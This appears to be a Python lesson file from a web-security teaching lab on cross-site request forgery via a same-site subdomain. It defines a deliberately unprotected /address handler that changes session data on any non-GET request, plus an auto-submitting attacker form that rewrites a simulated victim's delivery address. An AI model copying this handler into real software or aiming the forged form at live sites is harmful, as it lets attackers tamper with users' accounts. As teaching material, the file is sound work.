"""A thief's page sends a form to the shop, with the cookies of whoever opens that page.

A colleague has added /address: where the parcels of this visitor go. The thief has taken over blog.shop.test. For a
browser, that is the same site as www.shop.test, so SameSite cookies are sent too.
"""

from __future__ import annotations

from flask import request, session
from markupsafe import escape

from app.visitors import public
from tools.lessons.lab import Lab

PAGE = """<!doctype html><h1>You have won!</h1><form method="post" action="{url}/address">
<input name="address" value="1 Thief Street"></form><script>document.forms[0].submit()</script>"""


@public
def address() -> str:
    """Show where the parcels go, and change it."""
    if request.method != "GET":
        session["address"] = request.form["address"]
    return f"<!doctype html><h1>Your parcels go to</h1><p>{escape(session.get('address', 'nowhere yet'))}</p>"


PAGES = {"/address": address}


def attack(lab: Lab) -> str:
    """Return what was stolen; "" for nothing."""
    with lab.serve(PAGES) as shop, lab.evil_site() as evil:
        alice = shop.visitor()
        alice.send("/address", {"address": "7 Alice Road"})
        print("Alice has entered her address: 7 Alice Road.")
        with lab.browser(alice) as page:
            page.goto(evil.page(PAGE.format(url=shop.url), "blog.shop.test"))
            print("She opens a page of blog.shop.test, which has a form and sends it at once.")
            page.wait_for_url(f"{shop.url}/address")
            print(f"The browser is now at {page.url}")
            lab.photograph(page)
            page.goto(f"{shop.url}/address")
            now = page.inner_text("p")
    print(f"Her parcels now go to: {now}")
    return f"Alice's next parcel goes to {now}." if "Thief" in now else ""
